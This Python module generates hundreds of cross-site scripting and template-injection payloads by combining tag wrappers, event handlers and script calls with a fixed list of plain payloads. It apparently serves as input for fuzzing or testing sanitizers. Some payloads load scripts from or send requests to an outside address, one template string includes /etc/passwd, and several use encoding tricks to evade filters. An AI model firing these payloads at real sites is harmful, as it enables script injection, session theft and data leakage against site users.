"""Script in many disguises, for every field: tags and events, broken attributes, foreign content, entities, encodings."""

from itertools import product

_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x",
    "marquee", "select autofocus", "textarea autofocus", "math", "a href=x", "div tabindex=1", "isindex", "keygen autofocus",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
_CALLS = ("window.ran=1", "top.ran=1", "fetch('http://192.0.2.1/')", "location='javascript:ran=1'")
_WRAPS = ("<{}>", '"><{}>', "'><{}>", "</textarea><{}>", "</title><{}>", "--><{}>", "]]><{}>", "</script><{}>", "<<{}>")
_PLAIN = (
    "<script>window.ran=1</script>", "<ScRiPt>window.ran=1</sCrIpT>", "<script src=//192.0.2.1/x.js></script>",
    "<script\n>window.ran=1</script\n>", "&lt;script&gt;window.ran=1&lt;/script&gt;", "<svg><script>window.ran=1</script>",
    "<style>@import 'http://192.0.2.1/';</style>", "<link rel=stylesheet href=//192.0.2.1/>", "<base href=//192.0.2.1/>",
    "<meta http-equiv=refresh content='0;url=//192.0.2.1/'>", "<form action=//192.0.2.1/><input type=submit>",
    "<a href='javascript:window.ran=1'>x</a>", "<a href='data:text/html,<script>ran=1</script>'>x</a>",
    "' onmouseover='window.ran=1", '" autofocus onfocus="window.ran=1', "` onmouseover=`window.ran=1",
    "{{ 7|add:7 }}", "{% debug %}", "{% include '/etc/passwd' %}", "${window.ran=1}", "\u202e<script>ran=1</script>",
    "<div hx-get='//192.0.2.1/' hx-trigger=load>", "<div data-hx-on:load='ran=1'>", "<template><img src=x onerror=ran=1>",
    "\ufeff<script>ran=1</script>", "+ADw-script+AD4-ran=1+ADw-/script+AD4-", "\uff1cscript\uff1eran=1\uff1c/script\uff1e",
)  # fmt: skip


def payloads(count: int = 500) -> list[str]:
    """So many different ones, the plain ones first, the rest spread over all combinations."""
    made = [wrap.format(f"{tag} {event}={call} ") for wrap, tag, event, call in product(_WRAPS, _TAGS, _EVENTS, _CALLS)]
    step = len(made) / (count - len(_PLAIN))
    found = [*_PLAIN, *(made[int(at * step)] for at in range(count - len(_PLAIN)))]
    assert len(set(found)) == count
    return found
